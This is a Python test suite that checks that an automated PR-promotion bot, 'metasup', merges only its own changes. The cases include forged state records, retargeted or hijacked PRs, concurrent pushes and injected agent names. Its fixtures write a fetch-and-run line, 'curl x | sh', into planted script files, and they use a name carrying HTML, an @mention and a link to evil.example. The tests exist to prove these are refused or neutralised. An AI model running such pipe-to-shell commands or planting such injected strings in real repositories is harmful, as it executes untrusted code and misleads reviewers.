"""Rolling mode merges and moves only its own work, whatever its records say (SPEC §5 "Acting
safely"): a forged record, a retargeted PR, a person's branch, a push during the run, and names
from artifacts in the comments it writes. Each case was found by an adversarial audit that made
the previous code misbehave; end to end through the action against the fake GitHub."""

from __future__ import annotations

import difflib
import json
from collections.abc import Callable
from pathlib import Path

import yaml
from fakegithub import FakeGitHub, RequestInfo
from test_action_rolling import PROMOTE_BRANCH, REPO, STATE, Rolling, renamed_rolling
from test_action_rolling_safety import HELD_TEXT, rolling, summary

from metasup.rolling.audit_ledger import NewEntry, append_new, parse_ledger, serialize

__all__ = ["rolling"]  # the fixture, shared with test_action_rolling_safety


def test_a_forged_record_never_gets_a_foreign_commit_merged(rolling: Rolling) -> None:
    """mallory points metasup's branch at her commit (the promotion plus a script, straight on main)
    and writes its sha into ``pulls.json``: metasup merges its own change, never her commit."""
    fake = rolling.fake
    assert rolling() == 0
    [pull] = rolling.promote_pulls()
    original = fake.read_file(REPO, "agents.yaml", ref="main")
    promoted = fake.read_file(REPO, "agents.yaml", ref=PROMOTE_BRANCH)
    evil = fake.commit_files(
        REPO,
        "mallory-tmp",
        {"agents.yaml": promoted, "evil.sh": "curl x | sh\n"},
        user="mallory",
        create_from="main",
    )
    fake.client().get_repo(REPO).get_git_ref(f"heads/{PROMOTE_BRANCH}").edit(evil, force=True)
    heads = json.loads(fake.read_file(REPO, "pulls.json", ref=STATE))
    heads[PROMOTE_BRANCH].append(evil)
    fake.commit_files(REPO, STATE, {"pulls.json": json.dumps(heads, indent=2) + "\n"}, user="mallory")
    fake.advance(hours=25)

    assert rolling() == 0

    assert fake.issue(REPO, pull.number).pull.merged
    assert "evil.sh" not in fake.files_at(REPO, "main")
    merged = fake.read_file(REPO, "agents.yaml", ref="main")
    changed = [
        line for line in difflib.ndiff(original.splitlines(), merged.splitlines()) if line[:2] in ("+ ", "- ")
    ]
    assert all(
        line.strip("+- ").startswith("stage:") for line in changed
    )  # metasup's stage changes, and only them
    stages = {agent["name"]: agent["stage"] for agent in yaml.safe_load(merged)["agents"]}
    assert stages["momo-beta"] == "prod"  # the promotion is in
    assert f"its head {evil[:12]} is not the change metasup makes" in summary(rolling)


def test_a_held_pr_stays_a_persons_when_its_head_is_put_back(rolling: Rolling) -> None:
    """bob pushes to metasup's promote PR, which is held ("a person's to merge"); then he
    force-pushes the branch back to metasup's own commit, to rework his change. The PR is still
    his: metasup neither re-cuts nor merges nor closes it (it did both: a force-push and a merge
    recorded as metasup's promotion)."""
    fake = rolling.fake
    assert rolling() == 0
    [pull] = rolling.promote_pulls()
    recorded = fake.ref_sha(REPO, PROMOTE_BRANCH)
    fake.push_to_pull(REPO, pull.number, {"NOTES.md": "bob's change\n"}, user="bob")
    fake.advance(hours=25)
    assert rolling() == 0
    assert rolling.events("promotion_held", "momo-beta")
    fake.client().get_repo(REPO).get_git_ref(f"heads/{PROMOTE_BRANCH}").edit(recorded, force=True)
    fake.advance(hours=25)
    fake.reset_log()

    assert rolling() == 0, rolling.stdout

    assert fake.writes("PATCH", f"/repos/*/git/refs/heads/{PROMOTE_BRANCH}") == []
    assert fake.writes("PUT", f"/repos/*/pulls/{pull.number}/merge") == []
    assert fake.issue(REPO, pull.number).state == "open"
    assert rolling.events("promoted", "momo-beta") == []
    assert len([c for c in fake.comments(REPO, pull.number) if HELD_TEXT in c.body]) == 1


def test_a_persons_merge_that_made_no_promotion_is_not_recorded_as_one(rolling: Rolling) -> None:
    """mallory replaces metasup's change in its promote PR (agents.yaml as on main, a script added)
    and merges it: momo-beta stays sandbox. The audit ledger and the LP log said ``promoted``
    (merged_by mallory); now nothing is recorded as a promotion and the summary says why."""
    fake = rolling.fake
    assert rolling() == 0
    [pull] = rolling.promote_pulls()
    main_registry = fake.read_file(REPO, "agents.yaml", ref="main")
    fake.push_to_pull(
        REPO, pull.number, {"agents.yaml": main_registry, "payload.sh": "curl x | sh\n"}, user="mallory"
    )
    fake.merge(REPO, pull.number, user="mallory")
    agents = yaml.safe_load(fake.read_file(REPO, "agents.yaml"))["agents"]
    stages = {a["name"]: a.get("stage") for a in agents}
    assert stages["momo-beta"] == "sandbox"
    fake.advance(hours=1)

    assert rolling() == 0

    assert rolling.events("promoted", "momo-beta") == []
    assert (
        f"PR #{pull.number} was merged, but agents.yaml on main does not put momo-beta in prod: "
        "not recorded as promoted"
    ) in summary(rolling).replace("\\", "")


def test_every_kill_kept_by_the_ledger_is_on_the_dashboard_with_its_record(rolling: Rolling) -> None:
    """mallory (push access) appends a well-chained ``killed momo-alpha`` record to the ledger. A
    kill recorded by an earlier run stays in force (SPEC §3.4), and the state branch cannot tell
    whose record it is: the exclusion happened without a word — the dashboard listed only this
    run's kills. It lists every kill kept by a ledger record, with the record, the run and the day,
    so a person sees it and what lifts it (docs/decisions.md: protect the state branch)."""
    fake = rolling.fake
    assert rolling() == 0
    text = fake.read_file(REPO, "ledger.jsonl", ref=STATE)
    forged = append_new(
        parse_ledger(text),
        [NewEntry(event="killed", subject="momo-alpha", data={"reason": "x", "registry": "prod"})],
        "2026-10-31T00:00:00Z",
        "999",
    )
    fake.commit_files(
        REPO,
        STATE,
        {"ledger.jsonl": text + serialize(forged)},
        message=f"state\n\nLedger-Head: {forged[-1].seq} {forged[-1].hash}\n",
        user="mallory",
    )
    fake.advance(hours=6)

    assert rolling() == 0

    dashboard = next(i for i in fake.repo(REPO).issues.values() if i.title == "Meta-Supervisor dashboard")
    kills = dashboard.body.split("### Kills", 1)[1].split("###", 1)[0]
    assert (
        f"- momo-alpha: x — kept by ledger record #{forged[-1].seq} (run 999, 2026-10-31); "
        "editing agents.yaml lifts it"
    ) in kills


def test_a_pr_someone_retargeted_is_never_merged_elsewhere(rolling: Rolling) -> None:
    fake = rolling.fake
    fake.create_branch(REPO, "release")
    fake.commit_files(REPO, "main", {"UNRELEASED.md": "not for release yet\n"})
    assert rolling() == 0
    [pull] = rolling.promote_pulls()
    fake.client().get_repo(REPO).get_pull(pull.number).edit(base="release")
    fake.advance(hours=25)

    assert rolling() == 0

    assert not fake.issue(REPO, pull.number).pull.merged
    assert "UNRELEASED.md" not in fake.files_at(REPO, "release")
    assert "it now targets release, not main" in summary(rolling).replace("\\", "")


def test_a_persons_branch_without_a_pr_is_left_as_it_is(rolling: Rolling) -> None:
    fake = rolling.fake
    bob = fake.commit_files(
        REPO,
        PROMOTE_BRANCH,
        {"agents.yaml": "bob's draft\n", "WORK.md": "two days of work\n"},
        user="bob",
        create_from="main",
    )

    assert rolling() == 0

    assert fake.ref_sha(REPO, PROMOTE_BRANCH) == bob
    assert rolling.promote_pulls() == []
    assert f"holds commit {bob[:12]}, which metasup did not write" in summary(rolling).replace("\\", "")


def test_a_push_during_the_run_is_never_overwritten(rolling: Rolling) -> None:
    """main moved, so metasup re-cuts its branch before merging; bob pushes to the PR after the run
    listed it, just before metasup writes its commit: his push stays and the PR is held."""
    fake = rolling.fake
    assert rolling() == 0
    [pull] = rolling.promote_pulls()
    fake.commit_files(REPO, "main", {"NOTES.md": "unrelated change on main\n"})
    fake.advance(hours=25)
    pushed: list[str] = []

    def bob_pushes(fake: FakeGitHub, info: RequestInfo) -> None:
        if not pushed:
            pushed.append(fake.push_to_pull(REPO, pull.number, {"FIX.md": "bob's fix\n"}, user="bob"))

    fake.before_request(bob_pushes, method="POST", path=f"/repos/{REPO}/git/commits")

    assert rolling() == 0

    [bobs] = pushed
    assert fake.ref_sha(REPO, PROMOTE_BRANCH) == bobs
    assert not fake.issue(REPO, pull.number).pull.merged
    assert any(HELD_TEXT in c.body for c in fake.comments(REPO, pull.number))


def test_the_withdrawal_comment_cannot_mention_or_format(
    fake_github: FakeGitHub, tmp_path: Path, github_event_path: Callable[..., Path]
) -> None:
    """An agent name from the artifacts, in the comment metasup leaves when it withdraws its PR."""
    name = "momo <b>beta</b> @octo-org/leads [x](https://evil.example)"
    rolling = renamed_rolling(fake_github, tmp_path, github_event_path, {"momo-beta": name})
    workspace = rolling.workspace
    assert rolling() == 0, rolling.stdout
    [pull] = [p for p in fake_github.pulls(REPO) if p.title.startswith("[AUTO-PROMOTE]")]
    telemetry = workspace / "telemetry" / "events.jsonl"
    violation = {
        "type": "safety_violation",
        "ts": "2026-10-29T15:00:00Z",
        "agent": name,
        "rule": "max_position",
    }
    telemetry.write_text(telemetry.read_text() + json.dumps(violation) + "\n")
    fake_github.advance(hours=6)

    assert rolling() == 0, rolling.stdout

    assert fake_github.issue(REPO, pull.number).state == "closed"
    comment = fake_github.comments(REPO, pull.number)[-1].body
    assert comment.startswith("metasup closed this PR: the promotion gates of **momo")
    assert "@\u200docto-org/leads" in comment
    for live in ("@octo-org", "<b>", "](https://"):
        assert live not in comment


def test_a_name_too_long_for_a_title_still_gets_its_pr(
    fake_github: FakeGitHub, tmp_path: Path, github_event_path: Callable[..., Path]
) -> None:
    """GitHub refuses titles over 256 characters; one long agent name used to end every rolling run
    with a 422 before anything (kills included) was recorded."""
    name = "momo-" + "x" * 295
    rolling = renamed_rolling(fake_github, tmp_path, github_event_path, {"momo-beta": name})

    assert rolling() == 0, rolling.stdout

    [pull] = [p for p in fake_github.pulls(REPO) if p.title.startswith("[AUTO-PROMOTE]")]
    assert len(pull.title) == 256
    assert pull.title.startswith(f"[AUTO-PROMOTE] momo-{'x' * 100}")
    assert pull.title.endswith("…")
    assert rolling.events("promotion_proposed", name)
